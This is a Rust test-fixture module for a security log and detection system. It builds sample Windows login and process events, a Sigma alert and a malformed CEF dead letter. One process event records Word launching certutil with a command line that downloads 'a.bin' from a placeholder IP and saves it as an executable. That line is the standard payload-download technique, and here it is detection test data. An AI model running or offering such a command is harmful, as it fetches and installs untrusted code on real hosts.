//! The example queries of `docs/queries.md` and sample data they all find rows in.

#![allow(clippy::unwrap_used, clippy::expect_used, dead_code, unreachable_pub)]

use vedette_core::alert::{alerts_to_batch, Alert, DetectionKind, Level};
use vedette_core::batch::EventBatch;
use vedette_core::dead_letter::{dead_letters_to_batch, DeadLetter};
use vedette_core::event::{Event, EventBatchBuilder};
use vedette_core::traits::Table;
pub use vedette_storage::{query_examples, Dialect, QUERIES_MD};

/// The queries of `docs/queries.md` in `dialect`.
pub fn queries(dialect: Dialect) -> Vec<String> {
    let out = query_examples(QUERIES_MD, dialect);
    assert!(
        out.len() >= 7,
        "{} queries found in docs/queries.md",
        out.len()
    );
    out
}

/// An hour of a small Windows network before `now`: logins (some failed), process
/// starts under a few parents, a certutil download.
pub fn sample_events(now: i64) -> EventBatch {
    let mut b = EventBatchBuilder::new();
    let mut n = 0;
    let mut push = |e: Event| {
        n += 1;
        b.append(&Event {
            id: format!("q-{n}"),
            ingested_ms: now,
            ..e
        });
    };
    for i in 0..30 {
        push(Event {
            timestamp_ms: now - 3_600_000 + i * 60_000,
            dataset: "windows.security".into(),
            category: Some("authentication".into()),
            outcome: Some(if i % 3 == 0 { "failure" } else { "success" }.into()),
            user_name: Some(format!("user-{}", i % 4)),
            host_name: Some(format!("dc-{}", i % 2)),
            code: Some("4625".into()),
            ..Event::default()
        });
    }
    for (i, (parent, child, cmd)) in [
        (
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\notepad.exe",
            "notepad.exe a.txt",
        ),
        (
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c dir",
        ),
        (
            "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://203.0.113.50/a.bin a.exe",
        ),
    ]
    .iter()
    .enumerate()
    {
        push(Event {
            timestamp_ms: now - 600_000 + i as i64 * 1000,
            dataset: "windows.sysmon".into(),
            category: Some("process".into()),
            host_name: Some(format!("ws-{i}")),
            user_name: Some("asmith".into()),
            process_executable: Some((*child).into()),
            parent_executable: Some((*parent).into()),
            process_command_line: Some((*cmd).into()),
            fields: vec![
                ("EventID".into(), "1".into()),
                ("CommandLine".into(), (*cmd).into()),
            ],
            ..Event::default()
        });
    }
    EventBatch::new(b.finish().unwrap(), "doc", "acme", now)
}

/// One alert and one dead letter shortly before `now`.
pub fn sample_alerts_and_dead_letters(now: i64) -> [(Table, EventBatch); 2] {
    let alert = Alert {
        id: "a1".into(),
        time_ms: now - 1000,
        tenant: "acme".into(),
        kind: DetectionKind::Sigma,
        rule_id: "d2644136-7400-49e4-8b45-45b687d7b72a".into(),
        rule_title: "Certutil Used to Download a File".into(),
        rule_author: None,
        level: Level::High,
        tags: vec![],
        host: Some("ws-2".into()),
        user: Some("asmith".into()),
        event_ids: vec!["q-33".into()],
        matched: Default::default(),
        dedup_key: "k".into(),
    };
    let alerts = EventBatch::new(alerts_to_batch(&[alert]).unwrap(), "detect", "acme", now);
    let dead = DeadLetter::new(
        now,
        "acme",
        "syslog-tcp",
        "cef",
        0,
        "CEF header has 2 of its 8 `|`-separated fields",
        b"CEF:0|x",
    );
    let letters = EventBatch::new(
        dead_letters_to_batch(&[dead]).unwrap(),
        "ingest",
        "acme",
        now,
    );
    [(Table::Alerts, alerts), (Table::DeadLetters, letters)]
}
